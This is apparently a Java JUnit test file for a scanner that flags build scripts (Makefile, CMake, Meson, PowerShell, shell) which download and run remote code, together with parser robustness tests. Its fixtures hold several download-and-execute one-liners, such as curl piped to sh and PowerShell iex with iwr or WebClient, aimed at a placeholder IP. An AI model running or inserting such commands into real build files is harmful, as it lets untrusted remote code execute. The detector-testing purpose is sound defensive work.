package cordon.inspect.shell;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import cordon.inspect.chain.NeedReader;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.rules.Rules;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class BuildScriptsTest {
  private static final ShellReader READER = new ShellReader(Rules.own(false).build().vocabulary());

  private static FileFacts read(String path, String text) {
    return READER.read(path, text.replace("\\n", "\n").replace("\\t", "\t").getBytes(UTF_8));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '`',
      textBlock =
          """
          GNUmakefile ## 2 ## all:\\n\\tcurl -s http://192.0.2.7 | sh
          rules.mk ## 2 ## # x\\nV != curl -s http://192.0.2.7 | sh
          CMakeLists.txt ## 2 ## project(x)\\nexecute_process(COMMAND sh -c "curl -s http://192.0.2.7 | sh" OUTPUT_VARIABLE o)
          x.cmake ## 1 ## add_custom_target(a ALL COMMAND curl -s http://192.0.2.7 | sh VERBATIM)
          meson.build ## 3 ## project('x')\\n# y\\nrun_command('sh', '-c', 'curl -s http://192.0.2.7 | sh', check: true)
          meson.build ## 1 ## custom_target('a', output: 'b', command: ['sh', '-c', 'curl -s http://192.0.2.7 | sh'])
          a.ps1 ## 2 ## <# about #>\\n$t = (iwr http://192.0.2.7/a).Content; iex $t
          a.ps1 ## 1 ## Invoke-Expression (New-Object Net.WebClient).DownloadString("http://192.0.2.7")
          """)
  void whatTheyRunIsFoundInItsLine(String path, int line, String text) {
    assertThat(read(path, text).facts())
        .anyMatch(f -> f.place().line() == line && NeedReader.read("run-code<fetch").fits(f));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '`',
      textBlock =
          """
          Makefile ## X = curl http://192.0.2.7 | sh
          CMakeLists.txt ## # execute_process(COMMAND sh -c "curl http://192.0.2.7 | sh")
          CMakeLists.txt ## message("execute_process(COMMAND sh -c 'curl http://192.0.2.7 | sh')")
          CMakeLists.txt ## execute_process(COMMAND git describe COMMENT "curl http://192.0.2.7 | sh")
          meson.build ## message('run', 'curl http://192.0.2.7 | sh')
          a.ps1 ## # iex (iwr http://192.0.2.7)
          a.ps1 ## $index = Get-Item x; iwr http://192.0.2.7 -OutFile a.txt
          """)
  void whatTheyDoNotRunIsNot(String path, String text) {
    assertThat(read(path, text).facts()).noneMatch(NeedReader.read("run-code|run-process")::fits);
  }

  @ParameterizedTest
  @CsvSource({"Makefile", "CMakeLists.txt", "meson.build", "a.ps1", "a.sh"})
  void whateverTheyHoldTheyEnd(String path) {
    for (String each :
        List.of(
            "(",
            "\"",
            "'",
            "[[",
            "#",
            "set(a ",
            "run_command(",
            "run_command('a',",
            "A=$A$A\\n",
            "echo a >> f\\n",
            "$(",
            "V := $(shell ",
            "f() { g; }\\n",
            "iex ",
            "$a=$a;",
            "{ ")) {
      assertThat(read(path, each.repeat(40_000 / each.length())).facts().size()).isLessThan(10_000);
    }
  }

  @Test
  void functionsThatCallEachOtherEnd() {
    StringBuilder text = new StringBuilder("f0() { echo a; }\n");
    for (int i = 1; i < 30; i++) {
      text.append("f%d() { f%d; f%d; }\n".formatted(i, i - 1, i - 1));
    }
    assertThat(READER.read("a.sh", text.append("f29\n").toString().getBytes(UTF_8)).complete())
        .isFalse();
  }

  @Test
  void noiseIsReadToItsEnd() {
    long seed = 20261128;
    Random random = new Random(seed);
    String base =
        "set(A b)\nexecute_process(COMMAND sh -c \"x $(y)\")\nf() { cat <<E | sh\nz\nE\n}\nall:\n\t$(CC) $$x\n";
    for (int i = 0; i < 500; i++) {
      byte[] bytes = base.repeat(2).getBytes(UTF_8);
      for (int j = 0; j < 8; j++) {
        bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(128);
      }
      String path =
          List.of("Makefile", "CMakeLists.txt", "meson.build", "a.ps1", "a.sh").get(i % 5);
      assertThat(READER.read(path, bytes).path()).as("seed %d", seed).isEqualTo(path);
    }
  }
}
